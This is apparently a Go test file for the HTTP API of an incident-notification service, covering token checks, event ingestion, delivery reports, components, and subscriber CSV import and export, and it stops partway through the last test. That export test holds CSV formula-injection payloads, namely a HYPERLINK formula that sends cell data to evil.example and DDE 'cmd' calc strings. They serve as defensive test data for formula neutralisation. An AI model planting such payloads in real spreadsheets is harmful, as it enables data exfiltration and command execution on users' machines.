package httpapi_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go/jetstream"

	"github.com/crier-dev/crier/internal/event"
	"github.com/crier-dev/crier/internal/httpapi"
	"github.com/crier-dev/crier/internal/store"
	"github.com/crier-dev/crier/internal/stream"
	"github.com/crier-dev/crier/internal/testkit/incidenttest"
)

// firstUpdate is the first update of the seed incident as JSON.
func firstUpdate(t *testing.T, id string) string {
	t.Helper()
	ev := incidenttest.Updates()[0]
	if id != "" {
		ev.ID = id
	}
	return string(incidenttest.Raw(ev))
}

func TestEveryRouteNeedsTheToken(t *testing.T) {
	t.Parallel()
	// Many wrong tokens from one address: the limit on them is
	// TestWrongTokensAreLimited's business.
	b := setup(t, func(o *setupOptions) { o.cfg.AuthFailPerClient = httpapi.Limit{Every: time.Millisecond, Burst: 1000} })
	routes := []struct{ method, path string }{
		{"POST", "/v1/events"}, {"GET", "/v1/events"}, {"GET", "/v1/events/x"}, {"GET", "/v1/events/x/deliveries"},
		{"GET", "/v1/components"}, {"PUT", "/v1/components/emar"}, {"DELETE", "/v1/components/emar"},
		{"GET", "/v1/subscribers"}, {"POST", "/v1/subscribers"}, {"GET", "/v1/subscribers/1"},
		{"PATCH", "/v1/subscribers/1"}, {"DELETE", "/v1/subscribers/1"}, {"POST", "/v1/subscribers/import"},
		{"GET", "/v1/subscribers.csv"}, {"POST", "/v1/organisations"}, {"GET", "/v1/organisations"},
		{"GET", "/v1/organisations/x"}, {"PATCH", "/v1/organisations/x"}, {"DELETE", "/v1/organisations/x"},
		{"POST", "/v1/incidents/x/acknowledgements"}, {"GET", "/v1/incidents/x"}, {"GET", "/v1/incidents/x/organisations"},
		{"POST", "/v1/integrations/alertmanager"}, {"POST", "/v1/integrations/grafana"},
	}
	for _, rt := range routes {
		for name, hdr := range map[string][]string{
			"missing":     nil,
			"wrong":       {"Authorization", "Bearer " + apiToken + "x"},
			"prefix":      {"Authorization", "Bearer " + apiToken[:10]},
			"basic":       {"Authorization", "Basic " + apiToken},
			"empty token": {"Authorization", "Bearer "},
		} {
			a := b.request(t, rt.method, rt.path, strings.NewReader(`{}`), append(hdr, "Content-Type", "application/json")...)
			if a.status != http.StatusUnauthorized {
				t.Errorf("%s %s with %s token: status %d, want 401", rt.method, rt.path, name, a.status)
			}
			if a.header.Get("WWW-Authenticate") == "" {
				t.Errorf("%s %s: no WWW-Authenticate", rt.method, rt.path)
			}
		}
	}
	// The component list is unchanged: nothing ran.
	if a := b.call(t, "GET", "/v1/components", ""); a.status != 200 || !strings.Contains(a.String(), `"emar"`) {
		t.Fatalf("with the token: %d %s", a.status, a.body)
	}
	// The admin dashboard refuses too.
	expectStatus(t, b.get(t, "/admin"), http.StatusUnauthorized)
	expectStatus(t, b.get(t, "/admin", "Authorization", "Bearer nope-nope-nope-nope"), http.StatusUnauthorized)
	expectStatus(t, b.get(t, "/admin", "Authorization", "Bearer "+apiToken), http.StatusOK)
}

func TestNoTokensConfiguredRefusesAll(t *testing.T) {
	t.Parallel()
	b := setup(t)
	api, err := httpapi.New(httpapi.Config{PublicURL: b.url}, httpapi.Deps{Store: b.store, Signer: b.signer, Links: b.composer})
	if err != nil {
		t.Fatal(err)
	}
	for _, tok := range []string{"", apiToken} {
		req := httptest.NewRequest("GET", "/v1/components", nil)
		req.Header.Set("Authorization", "Bearer "+tok)
		w := httptest.NewRecorder()
		api.Handler().ServeHTTP(w, req)
		if w.Code != http.StatusUnauthorized {
			t.Errorf("token %q: status %d, want 401", tok, w.Code)
		}
	}
}

func streamMsgs(t *testing.T, b *bundle) uint64 {
	t.Helper()
	s, err := b.js.Stream(context.Background(), stream.DefaultStream)
	if err != nil {
		t.Fatal(err)
	}
	info, err := s.Info(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	return info.State.Msgs
}

func TestPostEvent(t *testing.T) {
	t.Parallel()
	b := setup(t)
	body := firstUpdate(t, "")
	id := incidenttest.Updates()[0].ID

	a := b.call(t, "POST", "/v1/events", body)
	expectStatus(t, a, http.StatusAccepted)
	if m := a.json(t); m["id"] != id || m["duplicate"] != false {
		t.Fatalf("answer %s", a.body)
	}
	if loc := a.header.Get("Location"); loc != "/v1/events/"+id {
		t.Errorf("Location %q", loc)
	}
	// It is in the stream, under its id.
	s, err := b.js.Stream(context.Background(), stream.DefaultStream)
	if err != nil {
		t.Fatal(err)
	}
	msg, err := s.GetMsg(context.Background(), 1)
	if err != nil {
		t.Fatal(err)
	}
	if got := msg.Header.Get(jetstream.MsgIDHeader); got != id {
		t.Errorf("Nats-Msg-Id %q, want %q", got, id)
	}
	if msg.Subject != event.Subject(incidenttest.Updates()[0]) || string(msg.Data) != body {
		t.Errorf("stored %s %q", msg.Subject, msg.Data)
	}

	// A repeat is 200 duplicate and not stored twice.
	a = b.call(t, "POST", "/v1/events", body)
	expectStatus(t, a, http.StatusOK)
	if m := a.json(t); m["id"] != id || m["duplicate"] != true {
		t.Fatalf("repeat answered %s", a.body)
	}
	if n := streamMsgs(t, b); n != 1 {
		t.Errorf("%d messages in the stream, want 1", n)
	}

	// An event already in the database (beyond the stream's duplicate
	// window) is a duplicate too, and is not published again.
	old := incidenttest.Updates()[1]
	if _, err := b.store.Ingest(context.Background(), old, incidenttest.Raw(old), 0); err != nil {
		t.Fatal(err)
	}
	a = b.call(t, "POST", "/v1/events", string(incidenttest.Raw(old)))
	expectStatus(t, a, http.StatusOK)
	if m := a.json(t); m["duplicate"] != true {
		t.Fatalf("stored event answered %s", a.body)
	}
	if n := streamMsgs(t, b); n != 1 {
		t.Errorf("%d messages in the stream, want 1", n)
	}
}

func TestPostEventRefusals(t *testing.T) {
	t.Parallel()
	b := setup(t)
	valid := firstUpdate(t, "")
	huge := `{"id":"x","body":"` + strings.Repeat("a", event.MaxPayloadBytes) + `"}`
	for _, tc := range []struct {
		name, ctype, body string
		status            int
		field             string
	}{
		{"malformed JSON", "application/json", `{"id": "x",`, 400, ""},
		{"not JSON", "application/json", `hello`, 400, ""},
		{"empty", "application/json", ``, 400, ""},
		{"array", "application/json", `[` + valid + `]`, 400, ""},
		{"two values", "application/json", valid + valid, 400, ""},
		{"not UTF-8", "application/json", "{\"id\": \"\xff\xfe\"}", 400, ""},
		{"text/plain", "text/plain", valid, 415, ""},
		{"form", "application/x-www-form-urlencoded", valid, 415, ""},
		{"no content type", "", valid, 415, ""},
		{"unknown field", "application/json", strings.Replace(valid, `"id":`, `"colour":"red","id":`, 1), 422, "colour"},
		{"misspelt field", "application/json", strings.Replace(valid, `"title":`, `"titel":`, 1), 422, "titel"},
		{"wrong type", "application/json", strings.Replace(valid, `"notify":true`, `"notify":"yes"`, 1), 422, "notify"},
		{"bad status", "application/json", strings.Replace(valid, `"status":"investigating"`, `"status":"on fire"`, 1), 422, "status"},
		{"unknown component", "application/json", strings.Replace(valid, `atlas-sync/sync-pod-a`, `atlas-sync/sync-pod-z`, 1), 422, "components"},
		{"huge", "application/json", huge, 413, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var hdr []string
			hdr = append(hdr, "Authorization", "Bearer "+apiToken)
			if tc.ctype != "" {
				hdr = append(hdr, "Content-Type", tc.ctype)
			}
			a := b.request(t, "POST", "/v1/events", strings.NewReader(tc.body), hdr...)
			expectError(t, a, tc.status, tc.field)
		})
	}
	t.Run("huge without Content-Length", func(t *testing.T) {
		// A reader of unknown length is sent chunked: the limit applies
		// while reading.
		a := b.request(t, "POST", "/v1/events", io.MultiReader(strings.NewReader(huge)),
			"Authorization", "Bearer "+apiToken, "Content-Type", "application/json")
		expectError(t, a, http.StatusRequestEntityTooLarge, "")
	})
	t.Run("missing field named", func(t *testing.T) {
		a := b.call(t, "POST", "/v1/events", `{"id":"x","incident_id":"y","kind":"incident","status":"investigating","impact":"major","components":["emar"],"occurred_at":"2025-11-10T13:35:00Z"}`)
		expectError(t, a, 422, "title")
	})
	if n := streamMsgs(t, b); n != 0 {
		t.Errorf("%d refused events reached the stream", n)
	}
	rejected, err := b.store.ListRejected(context.Background(), 100)
	if err != nil {
		t.Fatal(err)
	}
	fromHTTP := 0
	for _, r := range rejected {
		if r.Source == "http" {
			fromHTTP++
		}
	}
	if fromHTTP != 12 {
		t.Errorf("%d refused events recorded as rejected, want the 12 answered 400 or 422", fromHTTP)
	}
	if strings.Contains(b.logs.String(), "record rejected event") {
		t.Errorf("recording a rejection failed:\n%s", b.logs.String())
	}
}

func TestPostEventWhenNATSIsDown(t *testing.T) {
	t.Parallel()
	b := setup(t, func(o *setupOptions) { o.cfg.PublishTimeout = time.Second })
	b.nats.Stop()
	for i := range 3 {
		a := b.call(t, "POST", "/v1/events", firstUpdate(t, fmt.Sprintf("down-%d", i)))
		expectError(t, a, http.StatusServiceUnavailable, "")
		if a.header.Get("Retry-After") == "" {
			t.Error("503 without Retry-After")
		}
	}
}

// ingestSeed stores the seed incident's first two updates with deliveries
// to a few subscribers, and returns the first update's id.
func ingestSeed(t *testing.T, b *bundle) (string, map[string]int64) {
	t.Helper()
	ctx := context.Background()
	subs := map[string]int64{
		"a": b.subscriber(t, store.NewSubscriber{Email: "alice@oakview-care.example", Phone: "+447400123456", Components: []string{"atlas-sync"}, ConfirmEmail: true, ConfirmSMS: true}),
		"b": b.subscriber(t, store.NewSubscriber{Email: "bob@riverside-care.example", Components: []string{"atlas-sync/sync-pod-a"}, ConfirmEmail: true}),
		"c": b.subscriber(t, store.NewSubscriber{Email: "carol@hillcrest.example", Phone: "+447400123457", Components: []string{"atlas-sync"}, ConfirmEmail: true, ConfirmSMS: true}),
		"d": b.subscriber(t, store.NewSubscriber{Phone: "+447400123458", Components: []string{"atlas-sync/sync-pod-a"}, ConfirmSMS: true}),
	}
	for _, ev := range incidenttest.Updates()[:2] {
		if _, err := b.store.Ingest(ctx, ev, incidenttest.Raw(ev), 0); err != nil {
			t.Fatal(err)
		}
	}
	id := incidenttest.Updates()[0].ID
	// Give the first update's deliveries some history.
	_, err := b.store.Pool().Exec(ctx, `
		UPDATE deliveries SET state = CASE
			WHEN subscriber_id = $2 AND channel = 'email' THEN 'delivered'
			WHEN subscriber_id = $3 THEN 'failed'
			WHEN subscriber_id = $4 AND channel = 'sms' THEN 'sent'
			ELSE state END,
			next_attempt_at = CASE
			WHEN (subscriber_id = $2 AND channel = 'email') OR subscriber_id = $3
			  OR (subscriber_id = $4 AND channel = 'sms') THEN NULL
			ELSE next_attempt_at END,
			attempts = CASE WHEN subscriber_id = $3 THEN 3 ELSE attempts END,
			last_error = CASE WHEN subscriber_id = $3 THEN '550 5.1.1 <' || address || '>: user unknown' END
		WHERE event_id = $1`, id, subs["a"], subs["b"], subs["c"])
	if err != nil {
		t.Fatal(err)
	}
	return id, subs
}

func TestEventReports(t *testing.T) {
	t.Parallel()
	b := setup(t)
	id, _ := ingestSeed(t, b)

	a := b.call(t, "GET", "/v1/events/"+url.PathEscape(id), "")
	expectStatus(t, a, http.StatusOK)
	m := a.json(t)
	if m["id"] != id || m["incident_id"] != incidenttest.IncidentID || m["title"] == "" {
		t.Errorf("event %s", a.body)
	}
	counts, _ := m["deliveries"].(map[string]any)
	email, _ := counts["email"].(map[string]any)
	sms, _ := counts["sms"].(map[string]any)
	// The first update was superseded by the second where still queued.
	if email["delivered"] != 1.0 || email["failed"] != 1.0 || sms["sent"] != 1.0 {
		t.Errorf("counts %v", counts)
	}

	a = b.call(t, "GET", "/v1/events?incident_id="+url.QueryEscape(incidenttest.IncidentID), "")
	expectStatus(t, a, http.StatusOK)
	events, _ := a.json(t)["events"].([]any)
	if len(events) != 2 {
		t.Fatalf("%d events, want 2: %s", len(events), a.body)
	}
	if e, _ := events[0].(map[string]any); e["id"] != id || e["deliveries"] == nil {
		t.Errorf("first event %v", e)
	}
	a = b.call(t, "GET", "/v1/events?limit=1", "")
	expectStatus(t, a, http.StatusOK)
	if events, _ := a.json(t)["events"].([]any); len(events) != 1 {
		t.Errorf("limit=1 gave %d events", len(events))
	}

	expectError(t, b.call(t, "GET", "/v1/events/no-such-event", ""), http.StatusNotFound, "")
	expectError(t, b.call(t, "GET", "/v1/events/no-such-event/deliveries", ""), http.StatusNotFound, "")
	expectError(t, b.call(t, "GET", "/v1/events?limit=lots", ""), http.StatusBadRequest, "limit")
}

func TestDeliveriesPaginatedAndMasked(t *testing.T) {
	t.Parallel()
	b := setup(t)
	id, subs := ingestSeed(t, b)
	base := "/v1/events/" + url.PathEscape(id) + "/deliveries"

	var all []map[string]any
	seen := map[float64]bool{}
	next := ""
	for pages := 0; ; pages++ {
		if pages > 10 {
			t.Fatal("pagination does not end")
		}
		path := base + "?limit=2"
		if next != "" {
			path += "&after=" + next
		}
		a := b.call(t, "GET", path, "")
		expectStatus(t, a, http.StatusOK)
		for _, s := range []string{"alice@", "bob@", "carol@", "7400123456", "7400123457", "7400123458"} {
			if strings.Contains(a.String(), s) {
				t.Errorf("answer holds %q unmasked: %s", s, a.body)
			}
		}
		m := a.json(t)
		ds, _ := m["deliveries"].([]any)
		if len(ds) > 2 {
			t.Fatalf("page of %d with limit=2", len(ds))
		}
		for _, d := range ds {
			d := d.(map[string]any)
			if seen[d["id"].(float64)] {
				t.Fatalf("delivery %v twice", d["id"])
			}
			seen[d["id"].(float64)] = true
			all = append(all, d)
		}
		n, ok := m["next"].(string)
		if !ok {
			break
		}
		next = n
	}
	// alice email+sms, bob email, carol email+sms, dave sms.
	if len(all) != 6 {
		t.Fatalf("%d deliveries, want 6", len(all))
	}
	var failed map[string]any
	for _, d := range all {
		if d["subscriber_id"] == float64(subs["b"]) {
			failed = d
		}
		if d["channel"] == "sms" && !strings.HasPrefix(d["address"].(string), "+44") {
			t.Errorf("sms address %v not masked with phone.Mask", d["address"])
		}
	}
	if failed["address"] != "b***@riverside-care.example" || failed["state"] != "failed" || failed["attempts"] != 3.0 {
		t.Errorf("failed delivery %v", failed)
	}
	if e, _ := failed["last_error"].(string); !strings.Contains(e, "user unknown") || !strings.Contains(e, "b***@riverside-care.example") {
		t.Errorf("last_error %q", e)
	}

	a := b.call(t, "GET", base+"?channel=sms&state=sent", "")
	expectStatus(t, a, http.StatusOK)
	if ds, _ := a.json(t)["deliveries"].([]any); len(ds) != 1 {
		t.Errorf("channel=sms&state=sent gave %s", a.body)
	}
	expectError(t, b.call(t, "GET", base+"?channel=pigeon", ""), http.StatusBadRequest, "channel")
	expectError(t, b.call(t, "GET", base+"?state=lost", ""), http.StatusBadRequest, "state")
	expectError(t, b.call(t, "GET", base+"?after=-1", ""), http.StatusBadRequest, "after")
	expectError(t, b.call(t, "GET", base+"?limit=5000", ""), http.StatusBadRequest, "limit")
}

func TestComponents(t *testing.T) {
	t.Parallel()
	b := setup(t)
	a := b.call(t, "GET", "/v1/components", "")
	expectStatus(t, a, http.StatusOK)
	if cs, _ := a.json(t)["components"].([]any); len(cs) != 5 {
		t.Fatalf("catalog %s", a.body)
	}

	a = b.call(t, "PUT", "/v1/components/capa/ordering", `{"name": "CAPA ordering", "description": "Pharmacy orders"}`)
	expectStatus(t, a, http.StatusCreated)
	if m := a.json(t); m["key"] != "capa/ordering" || m["parent"] != "capa" || m["name"] != "CAPA ordering" {
		t.Errorf("created %s", a.body)
	}
	a = b.call(t, "PUT", "/v1/components/capa/ordering", `{"name": "CAPA orders"}`)
	expectStatus(t, a, http.StatusOK)
	if m := a.json(t); m["name"] != "CAPA orders" {
		t.Errorf("updated %s", a.body)
	}

	a = b.call(t, "PUT", "/v1/components/pharmacy/stock", `{"name": "Stock"}`)
	expectError(t, a, http.StatusUnprocessableEntity, "key")
	if !strings.Contains(a.String(), `parent component \"pharmacy\" does not exist`) {
		t.Errorf("parent error not clear: %s", a.body)
	}
	expectError(t, b.call(t, "PUT", "/v1/components/Bad_Key", `{"name": "x"}`), 422, "key")
	expectError(t, b.call(t, "PUT", "/v1/components/emar", `{"description": "no name"}`), 422, "name")
	expectError(t, b.call(t, "PUT", "/v1/components/emar", `{"name": "eMar", "colour": "red"}`), 422, "colour")
	expectError(t, b.call(t, "PUT", "/v1/components/emar", `{"name": 7}`), 422, "name")
	expectError(t, b.call(t, "PUT", "/v1/components/emar", `{"name": "eMar"`), 400, "")
	expectError(t, b.request(t, "PUT", "/v1/components/emar", strings.NewReader(`{"name":"eMar"}`),
		"Authorization", "Bearer "+apiToken, "Content-Type", "text/plain"), 415, "")
	expectError(t, b.call(t, "PUT", "/v1/components/emar", `{"name": "`+strings.Repeat("x", 70<<10)+`"}`), 413, "")

	// Deleting: refused while children or subscriptions exist.
	expectError(t, b.call(t, "DELETE", "/v1/components/atlas-sync", ""), http.StatusConflict, "key")
	b.subscriber(t, store.NewSubscriber{Email: "capa@example.org", Components: []string{"capa/ordering"}})
	a = b.call(t, "DELETE", "/v1/components/capa/ordering", "")
	expectError(t, a, http.StatusConflict, "key")
	if !strings.Contains(a.String(), "force=true") {
		t.Errorf("409 does not say how to force: %s", a.body)
	}
	expectError(t, b.call(t, "DELETE", "/v1/components/capa/ordering?force=maybe", ""), 400, "force")
	expectStatus(t, b.call(t, "DELETE", "/v1/components/capa/ordering?force=true", ""), http.StatusNoContent)
	expectStatus(t, b.call(t, "DELETE", "/v1/components/atlas-sync?force=true", ""), http.StatusNoContent)
	expectStatus(t, b.call(t, "DELETE", "/v1/components/emar", ""), http.StatusNoContent)
	expectError(t, b.call(t, "DELETE", "/v1/components/emar", ""), http.StatusNotFound, "")
	a = b.call(t, "GET", "/v1/components", "")
	if cs, _ := a.json(t)["components"].([]any); len(cs) != 1 {
		t.Errorf("after deletes: %s", a.body)
	}
}

func TestCreateSubscriber(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.secret("manager@oakview-care.example", "+447400123456")
	a := b.call(t, "POST", "/v1/subscribers", `{"email": "manager@oakview-care.example", "phone": "07400 123456", "name": "Alex Morgan",
		"organisation": "Oakview Care Home", "components": ["atlas-sync", "emar"]}`)
	expectStatus(t, a, http.StatusCreated)
	m := a.json(t)
	id, _ := m["id"].(float64)
	if id == 0 || m["phone"] != "+447400123456" || m["email_confirmed_at"] != nil || m["sms_confirmed_at"] != nil {
		t.Fatalf("created %s", a.body)
	}
	if loc := a.header.Get("Location"); loc != fmt.Sprintf("/v1/subscribers/%d", int64(id)) {
		t.Errorf("Location %q", loc)
	}
	if len(b.email.sent())+len(b.sms.sent()) != 0 {
		t.Error("creating a subscriber over the API sent a message")
	}

	for _, tc := range []struct {
		name, body string
		status     int
		field      string
	}{
		{"same email", `{"email": "Manager@Oakview-Care.example", "components": ["emar"]}`, 409, ""},
		{"same phone", `{"phone": "+44 7400 123456", "components": ["emar"]}`, 409, ""},
		{"drama number", `{"phone": "07700 900123", "components": ["emar"]}`, 422, "phone"},
		{"landline", `{"phone": "020 7946 0018", "components": ["emar"]}`, 422, "phone"},
		{"letters", `{"phone": "call me", "components": ["emar"]}`, 422, "phone"},
		{"bad email", `{"email": "manager at oakview", "components": ["emar"]}`, 422, "email"},
		{"display name", `{"email": "Alex <alex@example.org>", "components": ["emar"]}`, 422, "email"},
		{"no address", `{"name": "Nobody", "components": ["emar"]}`, 422, "email"},
		{"no components", `{"email": "x@example.org"}`, 422, "components"},
		{"unknown component", `{"email": "x@example.org", "components": ["emar", "lunch"]}`, 422, "components"},
		{"unknown channel", `{"email": "x@example.org", "components": ["emar"], "channels": ["fax"]}`, 422, "channels"},
		{"channel without address", `{"email": "x@example.org", "components": ["emar"], "channels": ["sms"]}`, 422, "channels"},
		{"unknown field", `{"email": "x@example.org", "components": ["emar"], "pager": "123"}`, 422, "pager"},
		{"wrong type", `{"email": "x@example.org", "components": "emar"}`, 422, "components"},
		{"malformed", `{"email": "x@example.org",`, 400, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			expectError(t, b.call(t, "POST", "/v1/subscribers", tc.body), tc.status, tc.field)
		})
	}
	expectError(t, b.request(t, "POST", "/v1/subscribers", strings.NewReader(`{}`), "Authorization", "Bearer "+apiToken, "Content-Type", "text/csv"), 415, "")
	expectError(t, b.call(t, "POST", "/v1/subscribers", `{"name": "`+strings.Repeat("x", 70<<10)+`"}`), 413, "")

	// Confirmed, with the phone kept but not used.
	a = b.call(t, "POST", "/v1/subscribers", `{"email": "deputy@riverside-care.example", "phone": "+447400123499",
		"components": ["capa"], "channels": ["email"], "confirmed": true}`)
	expectStatus(t, a, http.StatusCreated)
	sub := b.getSubscriber(t, int64(a.json(t)["id"].(float64)))
	if sub.EmailConfirmedAt == nil || sub.SMSConfirmedAt != nil || sub.SMSOptedOutAt == nil || sub.EmailOptedOutAt != nil {
		t.Errorf("confirmed email-only subscriber %+v", sub)
	}
}

func TestSubscriberReadUpdateDelete(t *testing.T) {
	t.Parallel()
	b := setup(t)
	id := b.subscriber(t, store.NewSubscriber{Email: "sam@riverside-care.example", Phone: "+447400123456", Name: "Sam", Components: []string{"emar"}, ConfirmEmail: true, ConfirmSMS: true})
	other := b.subscriber(t, store.NewSubscriber{Email: "jo@hillcrest.example", Components: []string{"capa"}})
	path := fmt.Sprintf("/v1/subscribers/%d", id)

	a := b.call(t, "GET", path, "")
	expectStatus(t, a, http.StatusOK)
	if m := a.json(t); m["email"] != "sam@riverside-care.example" || m["name"] != "Sam" {
		t.Errorf("got %s", a.body)
	}
	expectError(t, b.call(t, "GET", "/v1/subscribers/999999", ""), 404, "")
	expectError(t, b.call(t, "GET", "/v1/subscribers/sam", ""), 404, "")

	a = b.call(t, "PATCH", path, `{"name": "Sam Patel", "organisation": "Riverside Care", "components": ["atlas-sync", "capa"], "channels": ["email"]}`)
	expectStatus(t, a, http.StatusOK)
	sub := b.getSubscriber(t, id)
	if sub.Name != "Sam Patel" || sub.Organisation != "riverside-care" || sub.Role != "primary" || strings.Join(sub.Components, ",") != "atlas-sync,capa" ||
		sub.SMSOptedOutAt == nil || sub.EmailOptedOutAt != nil || sub.EmailConfirmedAt == nil {
		t.Errorf("after PATCH %+v", sub)
	}
	// A new email address waits for confirmation again.
	expectStatus(t, b.call(t, "PATCH", path, `{"email": "sam.patel@riverside-care.example"}`), http.StatusOK)
	if sub := b.getSubscriber(t, id); sub.Email != "sam.patel@riverside-care.example" || sub.EmailConfirmedAt != nil {
		t.Errorf("after email change %+v", sub)
	}
	expectError(t, b.call(t, "PATCH", path, `{"email": "JO@hillcrest.example"}`), 409, "")
	expectError(t, b.call(t, "PATCH", path, `{"phone": "07700 900123"}`), 422, "phone")
	expectError(t, b.call(t, "PATCH", path, `{"email": "", "phone": ""}`), 422, "email")
	expectError(t, b.call(t, "PATCH", path, `{"components": []}`), 422, "components")
	expectError(t, b.call(t, "PATCH", path, `{"nickname": "S"}`), 422, "nickname")
	expectError(t, b.call(t, "PATCH", "/v1/subscribers/999999", `{"name": "x"}`), 404, "")
	// Removing the phone keeps the email.
	expectStatus(t, b.call(t, "PATCH", path, `{"phone": "", "confirmed": true}`), http.StatusOK)
	if sub := b.getSubscriber(t, id); sub.Phone != "" || sub.EmailConfirmedAt == nil {
		t.Errorf("after phone removal %+v", sub)
	}

	a = b.call(t, "GET", "/v1/subscribers?limit=1", "")
	expectStatus(t, a, http.StatusOK)
	m := a.json(t)
	if subs, _ := m["subscribers"].([]any); len(subs) != 1 || m["next"] != fmt.Sprint(id) {
		t.Errorf("first page %s", a.body)
	}
	a = b.call(t, "GET", fmt.Sprintf("/v1/subscribers?limit=1&after=%d", id), "")
	if m := a.json(t); m["next"] != nil || len(m["subscribers"].([]any)) != 1 || m["subscribers"].([]any)[0].(map[string]any)["id"] != float64(other) {
		t.Errorf("second page %s", a.body)
	}

	expectStatus(t, b.call(t, "DELETE", path, ""), http.StatusNoContent)
	expectError(t, b.call(t, "DELETE", path, ""), 404, "")
	expectError(t, b.call(t, "GET", path, ""), 404, "")
}

func TestImportSubscribers(t *testing.T) {
	t.Parallel()
	b := setup(t)
	existing := b.subscriber(t, store.NewSubscriber{Email: "manager@oakview-care.example", Name: "Old name", Components: []string{"capa"}, ConfirmEmail: true})
	b.subscriber(t, store.NewSubscriber{Phone: "+447400123450", Components: []string{"capa"}})
	csv := "\uFEFFemail,phone,name,organisation,components\n" +
		"manager@oakview-care.example,,Alex Morgan,Oakview Care Home,atlas-sync;emar\n" + // 2 update
		"deputy@riverside-care.example,07400 123451,Sam Patel,Riverside Care,atlas-sync/sync-pod-a\n" + // 3 create
		"not-an-address,,Bad Email,,emar\n" + // 4 refused
		",07700 900123,Drama Number,,emar\n" + // 5 refused
		"jo@hillcrest.example,,Jo,Hillcrest,lunch\n" + // 6 refused
		",,No Address,,emar\n" + // 7 refused
		"\"quoted, name\"@x\n" + // 8 refused: field count
		"deputy@riverside-care.example,,Sam P,Riverside Care,capa\n" + // 9 update (same file)
		"manager@oakview-care.example,+447400123450,Clash,,emar\n" + // 10 refused: two subscribers
		"nurse@hillcrest.example,,\"Pat, RN\",Hillcrest,emar; capa\n" + // 11 create
		"\n" + // blank
		"night@hillcrest.example,,Night,Hillcrest,\n" // 13 refused: no component
	a := b.request(t, "POST", "/v1/subscribers/import", strings.NewReader(csv), "Authorization", "Bearer "+apiToken, "Content-Type", "text/csv; charset=utf-8")
	expectStatus(t, a, http.StatusOK)
	m := a.json(t)
	if m["created"] != 2.0 || m["updated"] != 2.0 || m["refused"] != 7.0 {
		t.Fatalf("import answered %s", a.body)
	}
	var lines []string
	for _, r := range m["refusals"].([]any) {
		r := r.(map[string]any)
		if r["reason"] == "" {
			t.Errorf("refusal without reason: %v", r)
		}
		lines = append(lines, fmt.Sprint(r["line"]))
	}
	if got := strings.Join(lines, ","); got != "4,5,6,7,8,10,13" {
		t.Errorf("refused lines %s: %s", got, a.body)
	}
	if sub := b.getSubscriber(t, existing); sub.Name != "Alex Morgan" || strings.Join(sub.Components, ",") != "atlas-sync,emar" || sub.EmailConfirmedAt == nil {
		t.Errorf("updated subscriber %+v", sub)
	}
	subs, err := b.store.ListSubscribers(context.Background(), 0, 100)
	if err != nil {
		t.Fatal(err)
	}
	byEmail := map[string]store.Subscriber{}
	for _, s := range subs {
		byEmail[s.Email] = s
	}
	if d := byEmail["deputy@riverside-care.example"]; d.Phone != "+447400123451" || d.Name != "Sam P" || strings.Join(d.Components, ",") != "capa" || d.EmailConfirmedAt != nil {
		t.Errorf("imported deputy %+v", d)
	}
	if n := byEmail["nurse@hillcrest.example"]; n.Name != "Pat, RN" || strings.Join(n.Components, ",") != "capa,emar" {
		t.Errorf("imported nurse %+v", n)
	}
	if len(subs) != 4 {
		t.Errorf("%d subscribers, want 4", len(subs))
	}

	expectError(t, b.request(t, "POST", "/v1/subscribers/import", strings.NewReader(csv), "Authorization", "Bearer "+apiToken, "Content-Type", "application/json"), 415, "")
	expectError(t, b.request(t, "POST", "/v1/subscribers/import", strings.NewReader("mail,phone\nx,y\n"), "Authorization", "Bearer "+apiToken, "Content-Type", "text/csv"), 400, "")
	expectError(t, b.request(t, "POST", "/v1/subscribers/import", strings.NewReader(""), "Authorization", "Bearer "+apiToken, "Content-Type", "text/csv"), 400, "")
	a = b.request(t, "POST", "/v1/subscribers/import?confirmed=true", strings.NewReader("email,phone,name,organisation,components\nnew@hillcrest.example,,,,emar\n"),
		"Authorization", "Bearer "+apiToken, "Content-Type", "text/csv")
	expectStatus(t, a, http.StatusOK)
	subs, _ = b.store.ListSubscribers(context.Background(), 0, 100)
	for _, s := range subs {
		if s.Email == "new@hillcrest.example" && s.EmailConfirmedAt == nil {
			t.Error("?confirmed=true import left the address unconfirmed")
		}
	}
}

// TestExportNeutralisesFormulasAndRoundTrips: cells a spreadsheet would
// run (=, +, -, @) are stored as written and exported with a leading
// apostrophe; the export imported into an empty crier gives the same
// subscribers, and exports the same file.
func TestExportNeutralisesFormulasAndRoundTrips(t *testing.T) {
	t.Parallel()
	formulas := []string{`=HYPERLINK("https://evil.example/?"&A1,"Click")`, `=cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`}
	in := "email,phone,name,organisation,components,teams_url\n" +
		`manager@oakview-care.example,07400 123451,"` + strings.ReplaceAll(formulas[0], `"`, `""`) + `",` + `"` + formulas[1] + `",emar;capa,` + "\n" +
		`deputy@oakview-care.example,,"` + formulas[2] + `","` + formulas[3] + `",emar,` + "\n" +
		`,07400 123452,"` + formulas[4] + `",Riverside Care,atlas-sync/sync-pod-a,https://hooks.riverside.example/teams?sig=x` + "\n"
	importCSV := func(b *bundle, body string) {
		t.Helper()
		a := b.request(t, "POST", "/v1/subscribers/import?confirmed=true", strings.NewReader(body), "Authorization", "Bearer "+apiToken, "Content-Type", "text/csv")
		expectStatus(t, a, http.StatusOK)
		if m := a.json(t); m["created"] != 3.0 || m["refused"] != 0.0 {
			t.Fatalf("import answered %s", a.body)
		}
	}
	export := func(b *bundle) string {
		t.Helper()
		a := b.request(t, "GET", "/v1/subscribers.csv", nil, "Authorization", "Bearer "+apiToken)
		expectStatus(t, a, http.StatusOK)
		if ct := a.header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
			t.Errorf("export Content-Type %q", ct)
		}
		return string(a.body)
	}
	b := setup(t)
	importCSV(b, in)
	// The database keeps what was entered.
	var stored []string
	rows, err := b.store.Pool().Query(context.Background(), `SELECT name FROM subscribers UNION ALL SELECT name FROM organisations`)
	if err != nil {
		t.Fatal(err)
	}
	for rows.Next() {
		var v string
		if err := rows.Scan(&v); err != nil {
			t.Fatal(err)
		}
		stored = append(stored, v)
	}
	for _, f := range formulas {
		if !slices.Contains(stored, f) {
			t.Errorf("%q not stored as written; stored %q", f, stored)
		}
	}
	out := export(b)
